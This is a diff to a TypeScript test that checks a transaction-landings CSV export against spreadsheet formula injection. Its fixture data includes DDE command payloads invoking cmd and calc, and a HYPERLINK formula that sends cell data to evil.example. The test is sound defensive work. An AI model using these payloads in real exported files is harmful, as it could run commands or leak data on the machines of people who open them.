@@ -33,6 +33,7 @@ import {
   signedWithKit,
   wallet,
 } from '../../../fixtures/signedTransactions.ts';
+import { readCsv } from '../finder/exports/readExports.ts';
 
 const blockhash = '4QjEBrJnATvydaCoPb7j4cneA5vSJNFsAYHQwRAjAjmQ';
 const good: CheckFacts = {
@@ -609,12 +610,26 @@ describe('The Landings view', () => {
   test('exports CSV without executable formulas', () => {
     const text = landingsCsv([
       entry({ message: '=cmd|"x"', state: 'landed', landedSlot: 103, uuid: 'a,b' }),
+      entry({
+        uuid: '@SUM(1+1)*cmd|"calc"!A1',
+        message: '=HYPERLINK("https://evil.example?"&A1,"[click](command:x)"),\r\n<b>\u202e</b>',
+        alarm: '+1+1',
+        feeLamports: 2n ** 64n - 1n,
+        tips: [{ provider: '-2+3', lamports: 2n ** 53n + 1n }],
+      }),
     ]);
     const [head = '', line = ''] = text.split('\r\n');
     assert.match(head, /^submitted_at,signature,uuid,state,/);
     assert.match(line, /,"a,b",landed,/);
     assert.match(line, /,100,103,3,6000,JITO,1500000,/);
     assert.match(line, /"'=cmd\|""x"""/);
+    const [, hostile = {}] = readCsv(text);
+    assert.equal(hostile['fee_lamports'], '18446744073709551615');
+    assert.equal(hostile['tip_lamports'], '9007199254740993');
+    for (const name of ['uuid', 'message', 'alarm', 'tip_providers']) {
+      assert.match(hostile[name] ?? '', /^'[=+\-@]/, name);
+    }
+    for (const value of Object.values(hostile)) assert.doesNotMatch(value, /^[=+\-@\t\r]/);
   });
 });
 
